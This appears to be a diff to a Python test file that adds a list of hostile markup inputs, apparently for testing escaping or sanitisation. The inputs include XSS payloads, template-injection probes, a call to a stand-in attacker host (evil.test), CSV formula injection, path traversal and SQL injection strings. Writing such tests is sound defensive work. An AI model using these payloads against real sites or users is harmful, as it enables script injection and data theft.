@@ -38,6 +38,15 @@ TEXTS = [
     "\t=1", "=cmd|' /C calc'!A0", "javascript:alert(1)", "]]>", "-->", "</script>", "\u202egnp.exe", "T\u0443apse", "🎯💥", "Z" * 2_000, "a\u0300" * 50,
     "\ufeff", "\u2028", "\x1b[31m", "\x07", "\x7f", "%00", "../../etc/passwd", "'; DROP TABLE x;--", '""', "\\", "NULL", "None", "#REF!", " ",
 ]  # fmt: skip
+RUN = "window.ran=1;alert(1);fetch('https://evil.test/')"
+MARKUP = [
+    f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">', f'"><svg onload="{RUN}">', f"' onmouseover='{RUN}' x='", f"</script><script>{RUN}</script>",
+    f"</textarea></title></style><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"--><script>{RUN}</script>", f'<iframe srcdoc="<script>{RUN}</script>">',
+    '<img src="https://evil.test/x.png">', '<link rel=stylesheet href="https://evil.test/x.css">', '<meta http-equiv=refresh content="0;url=https://evil.test/">', '<base href="https://evil.test/">',
+    "<style>@import url(https://evil.test/x.css); * {display: none}</style>", '<form action="https://evil.test/"><input autofocus onfocus="window.ran=1">', f"&lt;img src=x onerror={RUN}&gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", "https://example.org/\" onclick=\"window.ran=1", "https://example.org/\u202egnp.exe", f"\\u003cscript\\u003e{RUN}", "{{ 600 + 66 }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{# x #}",
+    "${600 + 66}", f"`;{RUN};`", f"{{{{constructor.constructor(\"{RUN}\")()}}}}", "<%= 600 + 66 %>", "#{600 + 66}", "__proto__", "constructor", "toString", "\u2028</script>\u2029", "\u0430pple (homoglyph)", "z\u0351\u036b\u0343\u036a\u0302algo",
+]  # fmt: skip
 
 
 def csv_cell(text: str) -> str:
